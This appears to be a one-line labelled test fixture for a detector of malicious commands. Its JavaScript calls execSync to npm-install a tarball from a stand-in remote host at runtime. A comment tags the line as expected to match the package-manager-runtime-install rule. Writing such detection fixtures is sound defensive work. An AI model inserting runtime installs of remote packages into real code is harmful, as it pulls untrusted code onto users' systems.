const { execSync } = require('child_process');

execSync('npm install https://files.collect.example/x.tgz'); // expect: malicious-command/package-manager-runtime-install
